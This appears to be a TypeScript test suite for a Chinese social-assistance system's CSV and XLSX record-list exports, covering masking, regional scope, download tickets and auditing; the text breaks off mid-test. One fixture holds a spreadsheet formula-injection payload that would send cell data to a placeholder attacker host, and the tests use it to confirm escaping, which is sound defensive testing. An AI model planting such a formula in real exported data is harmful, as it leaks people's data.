import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import {
  DemandCategory,
  DemandStatus,
  HouseholdStatus,
  KeyFocusReason,
  OPEN_DEMAND_STATUSES,
  PetitionCaseStatus,
  ReferralStatus,
  Role,
  TargetGroup,
  UnitLevel,
} from '@wanjia/shared';
import type { DatabaseConfig } from '../src/config';
import { DAY_MS, shanghaiDate } from '../src/core/time';
import type { Orm } from '../src/db/orm';
import type { UserAccount } from '../src/modules/accounts/user-account.entity';
import { signReportDownloadTicket } from '../src/modules/analytics/report-download-ticket';
import { AuditEntry } from '../src/modules/audit/audit-entry.entity';
import type { Cadre } from '../src/modules/cadres/cadre.entity';
import { DemandReferral } from '../src/modules/demands/demand-referral.entity';
import type { Household } from '../src/modules/households/household.entity';
import { RECORD_LIST_DOWNLOAD_COST } from '../src/modules/record-lists/record-list.routes';
import { RECORD_LIST_TICKET_TTL_SECONDS, signRecordListTicket } from '../src/modules/record-lists/record-list-ticket';
import type { Unit } from '../src/modules/units/unit.entity';
import {
  createAccount,
  createAssignment,
  createCadre,
  createDemand,
  createHousehold,
  createPetitionCase,
  createRegionTree,
  createResident,
  createRound,
  createUnit,
  tokenFor,
  validIdNumber,
  type RegionTree,
} from './support/factories';
import { databaseKinds, dropScratchDatabase, migratedOrm } from './support/databases';
import { checkedImport, problemsOf, xlsxOf } from './support/imports';
import { startLoggedApp, TEST_JWT_SECRET, type LoggedApp } from './support/logged-app';
import type { RunningApp } from './support/server';

/**
 * Record lists (issue 16, "Lists for the offices"): exportRecordList answers a ticketed link, and
 * GET /exports/records/<LIST>.(xlsx|csv) streams the list for its caller. Each list is checked against
 * what the API answers the same caller, with the same scope and masking.
 */

interface Download {
  fileName: string;
  url: string;
  expiresAt: string;
}

const EXPORT = `mutation ($input: ExportRecordListInput!) { exportRecordList(input: $input) { fileName url expiresAt } }`;

/** A CSV as the server writes it (RFC 4180, CRLF), back into rows of text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index++;
    } else field += char;
  }
  return rows;
}

/** Every part of an xlsx (a zip of XML files), as text: what a search of the file for a value must cover. */
async function xlsxParts(bytes: Buffer): Promise<Record<string, string>> {
  const zip = await JSZip.loadAsync(bytes);
  const parts: Record<string, string> = {};
  for (const [name, entry] of Object.entries(zip.files)) if (!entry.dir) parts[name] = await entry.async('string');
  return parts;
}

async function refusal(response: Response): Promise<{ status: number; code: string; field: string | undefined }> {
  const { error } = (await response.json()) as { error: { code: string; field?: string } };
  return { status: response.status, code: error.code, field: error.field };
}

function withParameter(link: string, name: string, value: string | null): string {
  const url = new URL(link);
  if (value === null) url.searchParams.delete(name);
  else url.searchParams.set(name, value);
  return url.toString();
}

const daysAgo = (days: number) => new Date(Date.now() - days * DAY_MS);
const dayIn = (days: number) => shanghaiDate(new Date(Date.now() + days * DAY_MS));

/** Phones and identity numbers that must never appear whole in a file of staff's. */
const PHONES = { a: '13900001111', b: '13900002222', c: '13900003333', f: '13900006666', g: '13900007777', x: '13900009999', z: '13900008888' };
const CADRE_PHONES = ['13812340001', '13812340002', '13812340003', '13812340004'];
const FORMULA_HEAD = '=HYPERLINK("http://attacker.example/?"&A1,"查看")';
const CASE_TITLE = '征地补偿款纠纷秘密标题';
const CASE_DEMAND = '要求补足补偿款的详细诉求';

interface World {
  regions: RegionTree;
  units: { pingshan: Unit; xihu: Unit; city: Unit };
  cadres: { c1: Cadre; c2: Cadre; c3: Cadre; c4: Cadre };
  households: Record<'a' | 'b' | 'c' | 'd' | 'e' | 'f' | 'g' | 'x' | 'y' | 'z', Household>;
  idNumbers: string[];
  accounts: { cityAnalyst: UserAccount; districtAnalyst: UserAccount; districtAdmin: UserAccount; cityAdmin: UserAccount; cadre: UserAccount };
  roundId: number;
}

/**
 * 平山区 (东兴社区): a overdue (hardship, never visited in 60 days), b visited (key focus, a city bureau's
 * cadre c2), c unassigned (petitioner, a head name shaped like a formula, an open petition case), d whose
 * assignment ended, e closed, f overdue (key focus, 20 days), g visited (c4, the district unit's second
 * cadre). 溪湖区 (向阳社区): x overdue, y unassigned, z c2's other household.
 */
async function buildWorld(orm: Orm): Promise<World> {
  const em = orm.em.fork();
  const regions = await createRegionTree(em);
  const round = await createRound(em);
  const units = {
    pingshan: await createUnit(em, { name: '平山区民政局', region: regions.pingshan, level: UnitLevel.COUNTY }),
    xihu: await createUnit(em, { name: '溪湖区民政局', region: regions.xihu, level: UnitLevel.COUNTY }),
    city: await createUnit(em, { name: '本溪市住建局', region: regions.city, level: UnitLevel.CITY }),
  };
  const cadres = {
    c1: await createCadre(em, { name: '王一', post: '科长', unit: units.pingshan, phone: CADRE_PHONES[0] }),
    c2: await createCadre(em, { name: '市干部二', post: '处长', unit: units.city, phone: CADRE_PHONES[1] }),
    c3: await createCadre(em, { name: '溪湖三', post: '科员', unit: units.xihu, phone: CADRE_PHONES[2] }),
    c4: await createCadre(em, { name: '王四', post: '副科长', unit: units.pingshan, phone: CADRE_PHONES[3] }),
  };
  const dongxing = regions.dongxing;
  const xiangyang = regions.xiangyang;
  const household = (fields: Parameters<typeof createHousehold>[1]) => createHousehold(em, fields);
  const households = {
    a: await household({ region: dongxing, headName: '张三', phone: PHONES.a, address: '东兴社区1号楼101', targetGroups: [TargetGroup.HARDSHIP] }),
    b: await household({ region: dongxing, headName: '李四', phone: PHONES.b, targetGroups: [TargetGroup.KEY_FOCUS], lastVisitAt: daysAgo(2) }),
    c: await household({ region: dongxing, headName: FORMULA_HEAD, phone: PHONES.c, targetGroups: [TargetGroup.PETITIONER, TargetGroup.HARDSHIP] }),
    d: await household({ region: dongxing, headName: '赵六', phone: null, targetGroups: [TargetGroup.HARDSHIP] }),
    e: await household({ region: dongxing, headName: '钱七', phone: null, targetGroups: [TargetGroup.HARDSHIP], status: HouseholdStatus.CLOSED }),
    f: await household({ region: dongxing, headName: '孙八', phone: PHONES.f, targetGroups: [TargetGroup.KEY_FOCUS] }),
    g: await household({ region: dongxing, headName: '周九', phone: PHONES.g, targetGroups: [TargetGroup.HARDSHIP], lastVisitAt: daysAgo(1) }),
    x: await household({ region: xiangyang, headName: '吴十', phone: PHONES.x, targetGroups: [TargetGroup.HARDSHIP] }),
    y: await household({ region: xiangyang, headName: '郑十一', phone: null, targetGroups: [TargetGroup.HARDSHIP] }),
    z: await household({ region: xiangyang, headName: '王十二', phone: PHONES.z, targetGroups: [TargetGroup.HARDSHIP], lastVisitAt: daysAgo(3) }),
  };
  const idNumbers: string[] = [];
  for (const [key, made] of Object.entries(households)) {
    const idNumber = validIdNumber(key === 'x' || key === 'y' || key === 'z' ? '210503' : '210502', '1975-03-0' + ((idNumbers.length % 9) + 1));
    idNumbers.push(idNumber);
    await createResident(em, { household: made, idNumber, keyFocusReason: KeyFocusReason.GRIEVANCE });
  }
  const assign = (cadre: Cadre, target: Household, startedDaysAgo: number, endedAt: Date | null = null) =>
    createAssignment(em, { cadre, household: target, round, startedAt: daysAgo(startedDaysAgo), endedAt, endReason: endedAt ? '调整' : null });
  await assign(cadres.c1, households.a, 60);
  await assign(cadres.c2, households.b, 60);
  await assign(cadres.c1, households.d, 90, daysAgo(10));
  await assign(cadres.c1, households.f, 20);
  await assign(cadres.c4, households.g, 60);
  await assign(cadres.c3, households.x, 60);
  await assign(cadres.c2, households.z, 60);
  await createPetitionCase(em, { household: households.c, title: CASE_TITLE, demand: CASE_DEMAND, status: PetitionCaseStatus.REGISTERED });

  await createDemand(em, { household: households.a, text: '房屋漏雨', dueOn: dayIn(-5), raisedAt: daysAgo(20) });
  await createDemand(em, { household: households.a, text: '已解决的诉求', status: DemandStatus.RESOLVED, resolvedAt: daysAgo(3), dueOn: dayIn(-30) });
  const referred = await createDemand(em, {
    household: households.b,
    text: '+就业岗位申请',
    category: DemandCategory.EMPLOYMENT,
    status: DemandStatus.REFERRED,
    dueOn: dayIn(10),
    raisedAt: daysAgo(15),
    escalationRung: 1,
  });
  await createDemand(em, { household: households.f, text: '医疗报销咨询', dueOn: dayIn(10), raisedAt: daysAgo(2) });
  await createDemand(em, { household: households.x, text: '溪湖的诉求', dueOn: dayIn(-2), raisedAt: daysAgo(9) });

  const accounts = {
    cityAnalyst: await createAccount(em, { role: Role.ANALYST, scopeRegion: regions.city, username: 'lists-city-analyst' }),
    districtAnalyst: await createAccount(em, { role: Role.ANALYST, scopeRegion: regions.pingshan, username: 'lists-district-analyst' }),
    districtAdmin: await createAccount(em, { role: Role.ADMIN, scopeRegion: regions.pingshan, username: 'lists-district-admin' }),
    cityAdmin: await createAccount(em, { role: Role.ADMIN, scopeRegion: regions.city, username: 'lists-city-admin' }),
    cadre: await createAccount(em, { role: Role.CADRE, cadre: cadres.c1 }),
  };
  // The district unit's open referral, due three days ago: the demand is overdue by it although its own due date is ahead.
  em.create(DemandReferral, {
    demand: referred,
    unit: units.pingshan,
    status: ReferralStatus.ACCEPTED,
    dueOn: dayIn(-3),
    referredAt: daysAgo(12),
    referredByAccount: accounts.cadre,
    referredByCadre: cadres.c2,
  });
  await em.flush();
  return { regions, units, cadres, households, idNumbers, accounts, roundId: round.id };
}

describe.each(databaseKinds())('record lists on %s', (kind) => {
  let orm: Orm;
  let database: DatabaseConfig;
  let server: LoggedApp;
  let world: World;
  const tokens: Record<keyof World['accounts'], string> = {} as Record<keyof World['accounts'], string>;

  beforeAll(async () => {
    ({ orm, database } = await migratedOrm(kind, 'lists'));
    world = await buildWorld(orm);
    for (const [name, account] of Object.entries(world.accounts)) tokens[name as keyof World['accounts']] = await tokenFor(account, TEST_JWT_SECRET);
    server = await startLoggedApp(orm, database);
  });

  afterAll(async () => {
    await server?.close();
    await orm?.close(true);
    if (database) await dropScratchDatabase(database);
  });

  const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

  async function exportList(token: string, input: Record<string, unknown>): Promise<Download> {
    const answer = await server.graphql<{ exportRecordList: Download }>(EXPORT, { input }, token);
    if (!answer.body.data?.exportRecordList) throw new Error(`exportRecordList failed: ${JSON.stringify(answer.body.errors)}`);
    return answer.body.data.exportRecordList;
  }

  async function exportError(token: string, input: Record<string, unknown>): Promise<{ code: unknown; field: unknown }> {
    const answer = await server.graphql(EXPORT, { input }, token);
    expect(answer.body.data?.exportRecordList ?? null).toBeNull();
    const extensions = answer.body.errors?.[0]?.extensions ?? {};
    return { code: extensions.code, field: extensions.field };
  }

  /** Exports a list as CSV and downloads it as the same caller: the header line and the rows. */
  async function csvOf(token: string, input: Record<string, unknown>): Promise<{ headers: string[]; rows: string[][]; bytes: Buffer; response: Response }> {
    const link = await exportList(token, { format: 'CSV', ...input });
    const response = await fetch(link.url, { headers: bearer(token) });
    expect(response.status).toBe(200);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [headers, ...rows] = parseCsv(bytes.toString('utf8').slice(1));
    return { headers: headers!, rows, bytes, response };
  }

  async function api<T>(token: string, query: string, variables: Record<string, unknown> = {}): Promise<T> {
    const answer = await server.graphql<T>(query, variables, token);
    if (!answer.body.data) throw new Error(JSON.stringify(answer.body.errors));
    return answer.body.data;
  }

  const id = (household: Household) => String(household.id);
  const byFirstColumn = (rows: string[][]) => [...rows].sort((a, b) => Number(a[0]) - Number(b[0]));

  it('OVERDUE_VISITS: the households overdueVisits answers the caller, with region path, masked phone, groups, cadre and days overdue', async () => {
    const { headers, rows } = await csvOf(tokens.districtAnalyst, { list: 'OVERDUE_VISITS' });
    expect(headers).toEqual([
      '户编号',
      '所在区划',
      '地址',
      '户主',
      '联系电话',
      '帮扶对象类别',
      '联系干部',
      '干部所在单位',
      '最近走访日期',
      '应走访日期',
      '超期天数',
    ]);
    const { overdueVisits } = await api<{
      overdueVisits: { nodes: { householdId: string; headName: string; daysOverdue: number; dueAt: string; cadre: { name: string } }[] };
    }>(tokens.districtAnalyst, '{ overdueVisits(first: 100) { nodes { householdId headName daysOverdue dueAt cadre { name } } } }');
    const expected = [...overdueVisits.nodes].sort((a, b) => Number(a.householdId) - Number(b.householdId));
    expect(expected.map((node) => node.householdId)).toEqual([id(world.households.a), id(world.households.f)]);
    expect(byFirstColumn(rows).map((row) => [row[0], row[3], row[6], row[9], Number(row[10])])).toEqual(
      expected.map((node) => [node.householdId, node.headName, node.cadre.name, shanghaiDate(new Date(node.dueAt)), node.daysOverdue]),
    );
    const a = rows.find((row) => row[0] === id(world.households.a))!;
    expect(a).toEqual([
      id(world.households.a),
      '平山区/站前街道/东兴社区',
      '东兴社区1号楼101',
      '张三',
      '139****1111',
      '困难家庭',
      '王一',
      '平山区民政局',
      '',
      a[9],
      '30',
    ]);
    expect(rows.find((row) => row[0] === id(world.households.f))![5]).toBe('重点关注');

    // Narrowed to a target group, a unit and a round, as the list's filters say.
    expect((await csvOf(tokens.districtAnalyst, { list: 'OVERDUE_VISITS', targetGroup: 'KEY_FOCUS' })).rows.map((row) => row[0])).toEqual([
      id(world.households.f),
    ]);
    expect((await csvOf(tokens.districtAnalyst, { list: 'OVERDUE_VISITS', unitId: String(world.units.city.id) })).rows).toEqual([]);
    expect((await csvOf(tokens.districtAnalyst, { list: 'OVERDUE_VISITS', roundId: String(world.roundId) })).rows).toHaveLength(2);
  });

  it('OPEN_DEMANDS and OVERDUE_DEMANDS: the demands the API answers, with the effective due date and the unit referred to', async () => {
    const open = await csvOf(tokens.districtAnalyst, { list: 'OPEN_DEMANDS' });
    expect(open.headers).toEqual([
      '诉求编号',
      '诉求内容',
      '诉求类别',
      '状态',
      '户编号',
      '户主',
      '所在区划',
      '地址',
      '提出日期',
      '应办结日期',
      '交办单位',
      '督办层级',
    ]);
    type DemandNode = { id: string; status: DemandStatus; effectiveDueOn: string | null; escalationRung: number; household: { id: string } };
    const { demands } = await api<{ demands: { nodes: DemandNode[] } }>(
      tokens.districtAnalyst,
      '{ demands(first: 100) { nodes { id status effectiveDueOn escalationRung household { id } } } }',
    );
    const openNodes = demands.nodes.filter((node) => OPEN_DEMAND_STATUSES.includes(node.status)).sort((a, b) => Number(a.id) - Number(b.id));
    expect(openNodes).toHaveLength(3);
    expect(byFirstColumn(open.rows).map((row) => [row[0], row[4], row[9], Number(row[11])])).toEqual(
      openNodes.map((node) => [node.id, node.household.id, node.effectiveDueOn, node.escalationRung]),
    );
    const referred = open.rows.find((row) => row[4] === id(world.households.b))!;
    expect([referred[1], referred[2], referred[3], referred[9], referred[10], referred[11]]).toEqual([
      "'+就业岗位申请",
      '就业',
      '已交办',
      dayIn(-3),
      '平山区民政局',
      '1',
    ]);

    const overdue = await csvOf(tokens.districtAnalyst, { list: 'OVERDUE_DEMANDS' });
    expect(overdue.headers.at(-1)).toBe('逾期天数');
    const overdueApi = await api<{ demands: { nodes: { id: string }[] } }>(
      tokens.districtAnalyst,
      '{ demands(first: 100, filter: { overdueOnly: true }) { nodes { id } } }',
    );
    expect(byFirstColumn(overdue.rows).map((row) => row[0])).toEqual(overdueApi.demands.nodes.map((node) => node.id).sort((a, b) => Number(a) - Number(b)));
    expect(overdue.rows.map((row) => [row[4], row.at(-1)]).sort()).toEqual(
      [
        [id(world.households.a), '5'],
        [id(world.households.b), '3'],
      ].sort(),
    );
    // Referred to the district's unit now: only the referred demand.
    expect((await csvOf(tokens.districtAnalyst, { list: 'OPEN_DEMANDS', unitId: String(world.units.pingshan.id) })).rows.map((row) => row[4])).toEqual([
      id(world.households.b),
    ]);
  });

  it('COVERAGE_GAPS: the UNASSIGNED_HOUSEHOLDS drill-down’s households, phones masked as the API masks them', async () => {
    const { headers, rows } = await csvOf(tokens.districtAnalyst, { list: 'COVERAGE_GAPS' });
    expect(headers).toEqual(['户编号', '所在区划', '地址', '户主', '联系电话', '帮扶对象类别', '困难类型', '最近走访日期', '登记日期']);
    const { analyticsHouseholds } = await api<{ analyticsHouseholds: { nodes: { id: string; headName: string; phone: string | null }[] } }>(
      tokens.districtAnalyst,
      '{ analyticsHouseholds(measure: UNASSIGNED_HOUSEHOLDS, first: 100) { nodes { id headName phone } } }',
    );
    const expected = [...analyticsHouseholds.nodes].sort((a, b) => Number(a.id) - Number(b.id));
    expect(expected.map((node) => node.id)).toEqual([id(world.households.c), id(world.households.d)]);
    expect(byFirstColumn(rows).map((row) => [row[0], row[4]])).toEqual(expected.map((node) => [node.id, node.phone ?? '']));
    // A head name that a spreadsheet would run is text: the apostrophe keeps it from being a formula.
    expect(rows.find((row) => row[0] === id(world.households.c))!.slice(3, 6)).toEqual([`'${FORMULA_HEAD}`, '139****3333', '困难家庭、信访群众']);
  });

  it('CADRE_CASELOAD and UNIT_CASELOAD: active assignments as `assignments` answers them, only the households in the caller’s subtree', async () => {
    const one = await csvOf(tokens.districtAnalyst, { list: 'CADRE_CASELOAD', cadreId: String(world.cadres.c1.id) });
    expect(one.headers).toEqual([
      '联系干部',
      '职务',
      '户编号',
      '所在区划',
      '地址',
      '户主',
      '联系电话',
      '帮扶对象类别',
      '联系方式',
      '联系开始日期',
      '最近走访日期',
      '未办结诉求数',
    ]);
    const { assignments } = await api<{
      assignments: { nodes: { household: { id: string; phone: string | null }; cadre: { id: string; unit: { id: string } } }[] };
    }>(tokens.districtAnalyst, '{ assignments(first: 100, filter: { active: true }) { nodes { household { id phone } cadre { id unit { id } } } } }');
    const ofCadre = (cadre: Cadre) =>
      assignments.nodes.filter((node) => node.cadre.id === String(cadre.id)).map((node) => [node.household.id, node.household.phone ?? '']);
    expect(one.rows.map((row) => [row[2], row[6]])).toEqual(ofCadre(world.cadres.c1));
    expect(one.rows.map((row) => [row[0], row[2], row[11]])).toEqual([
      ['王一', id(world.households.a), '1'],
      ['王一', id(world.households.f), '1'],
    ]);
    // A city bureau's cadre: the district analyst lists only the district's household, the city analyst both.
    const cityCadre = { list: 'CADRE_CASELOAD', cadreId: String(world.cadres.c2.id) };
    expect((await csvOf(tokens.districtAnalyst, cityCadre)).rows.map((row) => row[2])).toEqual([id(world.households.b)]);
    expect((await csvOf(tokens.cityAnalyst, cityCadre)).rows.map((row) => row[2])).toEqual([id(world.households.b), id(world.households.z)]);

    const unit = await csvOf(tokens.districtAnalyst, { list: 'UNIT_CASELOAD', unitId: String(world.units.pingshan.id) });
    const ofUnit = assignments.nodes.filter((node) => node.cadre.unit.id === String(world.units.pingshan.id)).map((node) => node.household.id);
    expect(unit.rows.map((row) => row[2])).toEqual(ofUnit);
    expect(unit.rows.map((row) => [row[0], row[1], row[2]])).toEqual([
      ['王一', '科长', id(world.households.a)],
      ['王一', '科长', id(world.households.f)],
      ['王四', '副科长', id(world.households.g)],
    ]);
  });

  it('xlsx: the same rows as the CSV, text cells never formulas, with its Chinese file names', async () => {
    const input = { list: 'COVERAGE_GAPS' };
    const csv = await csvOf(tokens.districtAnalyst, input);
    const link = await exportList(tokens.districtAnalyst, { ...input, format: 'XLSX' });
    const day = shanghaiDate(new Date());
    expect(link.fileName).toBe(`平山区-未结对户-${day}.xlsx`);
    expect(link.url.startsWith(`${server.url}/exports/records/COVERAGE_GAPS.xlsx?ticket=`)).toBe(true);
    const response = await fetch(link.url, { headers: bearer(tokens.districtAnalyst) });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('spreadsheetml');
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="wanjia-210502000000-coverage-gaps-${day}.xlsx"; filename*=UTF-8''${encodeURIComponent(`平山区-未结对户-${day}.xlsx`)}`,
    );
    const bytes = Buffer.from(await response.arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe(`平山区-未结对户-${day}`);
    const cells = (row: number) =>
      csv.headers.map((_, index) => {
        const value = sheet.getRow(row).getCell(index + 1).value;
        return value === null || value === undefined ? '' : String(value);
      });
    expect(cells(1)).toEqual(csv.headers);
    const rows = Array.from({ length: sheet.rowCount - 1 }, (_, index) => cells(index + 2));
    // The CSV's apostrophe is for spreadsheets that read CSV; the xlsx keeps the name as it is, as text.
    expect(rows).toEqual(csv.rows.map((row) => row.map((cell) => (cell === `'${FORMULA_HEAD}` ? FORMULA_HEAD : cell))));
    const formulaCell = sheet.getRow(rows.findIndex((row) => row[3] === FORMULA_HEAD) + 2).getCell(4);
    expect({ type: formulaCell.type, formula: formulaCell.formula }).toEqual({ type: ExcelJS.ValueType.String, formula: undefined });
    const parts = await xlsxParts(bytes);
    const sheetXml = Object.entries(parts).find(([name]) => name.startsWith('xl/worksheets/sheet'))![1];
    expect(sheetXml).not.toMatch(/<f[ >]/);
    expect(Object.keys(parts).some((name) => name.includes('hyperlink') || name.includes('externalLink'))).toBe(false);
  });

  it('masking: no phone whole, no ID number, key-focus reason or petition case detail anywhere in the bytes of any list, in either format', async () => {
    const inputs = [
      { list: 'OVERDUE_VISITS' },
      { list: 'OPEN_DEMANDS' },
      { list: 'OVERDUE_DEMANDS' },
      { list: 'COVERAGE_GAPS' },
      { list: 'CADRE_CASELOAD', cadreId: String(world.cadres.c2.id) },
      { list: 'UNIT_CASELOAD', unitId: String(world.units.pingshan.id) },
    ];
    const secrets = [
      ...Object.values(PHONES),
      ...CADRE_PHONES,
      ...world.idNumbers,
      ...world.idNumbers.map((number) => number.slice(6, 14)),
      '对党和政府有怨气',
      'GRIEVANCE',
      CASE_TITLE,
      CASE_DEMAND,
    ];
    for (const token of [tokens.cityAnalyst, tokens.cityAdmin]) {
      for (const input of inputs) {
        for (const format of ['CSV', 'XLSX']) {
          const link = await exportList(token, { ...input, format });
          const response = await fetch(link.url, { headers: bearer(token) });
          expect(response.status).toBe(200);
          const bytes = Buffer.from(await response.arrayBuffer());
          const text = format === 'CSV' ? bytes.toString('utf8') : Object.values(await xlsxParts(bytes)).join('\n');
          for (const secret of secrets) expect([input.list, format, text.includes(secret) ? secret : null]).toEqual([input.list, format, null]);
          expect(text.length).toBeGreaterThan(100);
        }
      }
    }
    // The masked form is there (so the search above searched the rows).
    expect((await csvOf(tokens.cityAdmin, { list: 'OVERDUE_VISITS' })).rows.map((row) => row[4]).sort()).toEqual(['139****1111', '139****6666', '139****9999']);
  });

  it('scope: a district analyst lists its district only; another district or the city above is FORBIDDEN, at export and at download', async () => {
    const district = await csvOf(tokens.districtAnalyst, { list: 'OVERDUE_VISITS' });
    const city = await csvOf(tokens.cityAnalyst, { list: 'OVERDUE_VISITS' });
    expect(district.rows.map((row) => row[0])).not.toContain(id(world.households.x));
    expect(city.rows.map((row) => row[0])).toContain(id(world.households.x));
    expect(city.rows.find((row) => row[0] === id(world.households.x))![1]).toBe('溪湖区/河东街道/向阳社区');
    for (const list of ['OVERDUE_DEMANDS', 'COVERAGE_GAPS']) {
      const rows = (await csvOf(tokens.districtAnalyst, { list })).rows;
      expect(rows.flat()).not.toContain('溪湖区/河东街道/向阳社区');
    }
    // The city analyst narrows to 溪湖区 and gets its rows.
    expect((await csvOf(tokens.cityAnalyst, { list: 'COVERAGE_GAPS', regionId: String(world.regions.xihu.id) })).rows.map((row) => row[0])).toEqual([
      id(world.households.y),
    ]);

    for (const regionId of [world.regions.xihu.id, world.regions.city.id, 99_999_999]) {
      expect(await exportError(tokens.districtAnalyst, { list: 'OVERDUE_VISITS', format: 'CSV', regionId: String(regionId) })).toEqual({
        code: 'FORBIDDEN',
        field: undefined,
      });
    }
    // A ticket for 溪湖区 signed for the district analyst (as if exported) does not open it either; nothing is audited.
    const audited = await orm.em.fork().count(AuditEntry, { operation: 'downloadRecordList' });
    const query = `list=COVERAGE_GAPS&regionId=${world.regions.xihu.id}`;
    const { ticket } = await signRecordListTicket(
      { accountId: world.accounts.districtAnalyst.id, sessionGeneration: 0, format: 'csv', query },
      TEST_JWT_SECRET,
    );
    const refused = await fetch(`${server.url}/exports/records/COVERAGE_GAPS.csv?regionId=${world.regions.xihu.id}&ticket=${ticket}`, {
      headers: bearer(tokens.districtAnalyst),
    });
    expect(await refusal(refused)).toEqual({ status: 403, code: 'FORBIDDEN', field: undefined });
    expect(await orm.em.fork().count(AuditEntry, { operation: 'downloadRecordList' })).toBe(audited);

    // Cadres export nothing; analysts not an import's problems (administrators only).
    expect(await exportError(tokens.cadre, { list: 'CADRE_CASELOAD', format: 'CSV', cadreId: String(world.cadres.c1.id) })).toEqual({
      code: 'FORBIDDEN',
      field: undefined,
    });
    expect(await exportError(tokens.districtAnalyst, { list: 'IMPORT_PROBLEMS', format: 'CSV', importId: '1' })).toEqual({
      code: 'FORBIDDEN',
      field: undefined,
    });
    const cadreTicket = await signRecordListTicket(
      { accountId: world.accounts.cadre.id, sessionGeneration: 0, format: 'csv', query: 'list=OVERDUE_VISITS' },
      TEST_JWT_SECRET,
    );
    expect(
      await refusal(await fetch(`${server.url}/exports/records/OVERDUE_VISITS.csv?ticket=${cadreTicket.ticket}`, { headers: bearer(tokens.cadre) })),
    ).toEqual({
      status: 403,
      code: 'FORBIDDEN',
      field: undefined,
    });
  });

  it('tickets: bound to caller, list, format and filters; a report’s ticket is no record list’s, nor the reverse', async () => {
    const link = await exportList(tokens.districtAnalyst, { list: 'OVERDUE_VISITS', format: 'CSV', targetGroup: 'HARDSHIP' });
    expect(link.url.startsWith(`${server.url}/exports/records/OVERDUE_VISITS.csv?targetGroup=HARDSHIP&ticket=`)).toBe(true);
    const expiresAt = Date.parse(link.expiresAt);
    expect(expiresAt).toBeGreaterThan(Date.now() + (RECORD_LIST_TICKET_TTL_SECONDS - 30) * 1000);
    expect(expiresAt).toBeLessThanOrEqual(Date.now() + RECORD_LIST_TICKET_TTL_SECONDS * 1000);
    const ticket = new URL(link.url).searchParams.get('ticket')!;
    const claims = JSON.parse(Buffer.from(ticket.split('.')[1]!, 'base64url').toString('utf8')) as Record<string, unknown>;
    expect(claims).toEqual(
      expect.objectContaining({
        sub: String(world.accounts.districtAnalyst.id),
        aud: 'wanjia-record-list-download',
        fmt: 'csv',
        q: 'list=OVERDUE_VISITS&targetGroup=HARDSHIP',
      }),
    );
    expect(link.url).not.toContain(tokens.districtAnalyst);
    const audited = await orm.em.fork().count(AuditEntry, { operation: 'downloadRecordList' });
    const download = (url: string, token = tokens.districtAnalyst) => fetch(url, { headers: bearer(token) });
    const forbidden = { status: 403, code: 'FORBIDDEN', field: 'ticket' };
    const unauthenticated = { status: 401, code: 'UNAUTHENTICATED', field: 'ticket' };
    for (const changed of [
      link.url.replace('/OVERDUE_VISITS.csv?', '/COVERAGE_GAPS.csv?'),
      link.url.replace('/OVERDUE_VISITS.csv?', '/OVERDUE_VISITS.xlsx?'),
      withParameter(link.url, 'targetGroup', 'KEY_FOCUS'),
      withParameter(link.url, 'targetGroup', null),
      withParameter(link.url, 'regionId', String(world.regions.zhanqian.id)),
      `${link.url}&${Array.from({ length: 1_000 }, (_, index) => `p${index}=1`).join('&')}&unitId=${world.units.pingshan.id}`,
    ]) {
      expect([changed.slice(0, 120), await refusal(await download(changed))]).toEqual([changed.slice(0, 120), forbidden]);
    }
    expect(await refusal(await download(link.url, tokens.cityAnalyst))).toEqual(forbidden);
    expect(await refusal(await fetch(link.url))).toEqual(expect.objectContaining({ status: 401, code: 'UNAUTHENTICATED' }));
    expect(await refusal(await download(withParameter(link.url, 'ticket', null)))).toEqual(unauthenticated);
    // Expired: issued eleven minutes ago by the module's own signer.
    const stale = await signRecordListTicket(
      { accountId: world.accounts.districtAnalyst.id, sessionGeneration: 0, format: 'csv', query: 'list=OVERDUE_VISITS&targetGroup=HARDSHIP' },
      TEST_JWT_SECRET,
      new Date(Date.now() - 11 * 60_000),
    );
    const expired = await download(withParameter(link.url, 'ticket', stale.ticket));
    expect(await refusal(expired)).toEqual(unauthenticated);
    // A report's ticket for the same caller and query: another audience and key, refused.
    const report = await signReportDownloadTicket(
      { accountId: world.accounts.districtAnalyst.id, sessionGeneration: 0, format: 'csv', query: 'list=OVERDUE_VISITS&targetGroup=HARDSHIP' },
      TEST_JWT_SECRET,
    );
    expect(await refusal(await download(withParameter(link.url, 'ticket', report.ticket)))).toEqual(unauthenticated);
    const reportLink = await api<{ exportReport: { csvUrl: string } }>(tokens.districtAnalyst, '{ __typename }').then(() =>
      server.graphql<{ exportReport: { csvUrl: string } }>('mutation { exportReport(kind: OVERVIEW) { csvUrl } }', {}, tokens.districtAnalyst),
    );
    const reportUrl = reportLink.body.data!.exportReport.csvUrl;
    expect(await refusal(await download(withParameter(reportUrl, 'ticket', ticket)))).toEqual(unauthenticated);
    // Nothing refused was audited; the link itself still works, parameters in any order.
    expect(await orm.em.fork().count(AuditEntry, { operation: 'downloadRecordList' })).toBe(audited);
    const reordered = `${server.url}/exports/records/OVERDUE_VISITS.csv?ticket=${encodeURIComponent(ticket)}&targetGroup=HARDSHIP`;
    expect((await download(reordered)).status).toBe(200);
  });

  it('audit: the export and each download, with the list, format, filters and region; the download before its first byte', async () => {
    const before = await orm.em.fork().count(AuditEntry, { operation: { $in: ['exportRecordList', 'downloadRecordList'] } });
    const link = await exportList(tokens.districtAdmin, {
      list: 'CADRE_CASELOAD',
      format: 'XLSX',
      cadreId: String(world.cadres.c1.id),
      roundId: String(world.roundId),
    });
    expect((await fetch(link.url, { headers: bearer(tokens.districtAdmin) })).status).toBe(200);
    const entries = await orm.em
      .fork()
